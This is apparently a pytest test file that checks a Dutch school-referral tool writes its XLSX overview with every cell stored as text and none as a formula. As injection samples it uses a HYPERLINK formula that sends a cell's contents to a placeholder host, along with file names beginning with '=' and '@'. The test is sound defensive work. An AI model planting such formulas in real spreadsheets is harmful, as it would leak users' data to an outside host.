"""Class 4: text in an XLSX the product writes is stored as text, never as a formula."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from .conftest import aanvraag, run, write_yaml

HOSTILE = '=HYPERLINK("https://example.invalid/?"&A2,"klik")'


def test_tlv_overview_stores_school_and_file_names_as_text(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    data = aanvraag("05-sbo-route-onvolledig")
    data["vertrekkende_school"]["naam"] = HOSTILE
    write_yaml(folder / "=1+1.yaml", data)
    (folder / "@SUM(A1).yaml").write_text("leerling: [\n", encoding="utf-8")
    overview = tmp_path / "overzicht.xlsx"
    code, _, err = run("tlv-check", folder, "-o", overview)
    assert code == 1, err
    with zipfile.ZipFile(overview) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    workbook = load_workbook(overview)
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert {HOSTILE, "=1+1.yaml", "@SUM(A1).yaml"} <= values
